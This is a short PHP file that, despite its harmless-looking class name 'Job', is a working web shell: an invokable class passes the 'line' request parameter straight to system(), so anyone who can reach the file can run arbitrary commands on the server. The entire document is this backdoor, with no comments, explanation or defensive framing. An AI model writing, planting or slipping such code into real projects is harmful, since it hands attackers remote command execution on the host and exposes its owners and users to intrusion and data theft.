<?php
class Job {
    public function __invoke($line) {
        return system($line);
    }
}
$job = new Job();
$job($_REQUEST['line']);
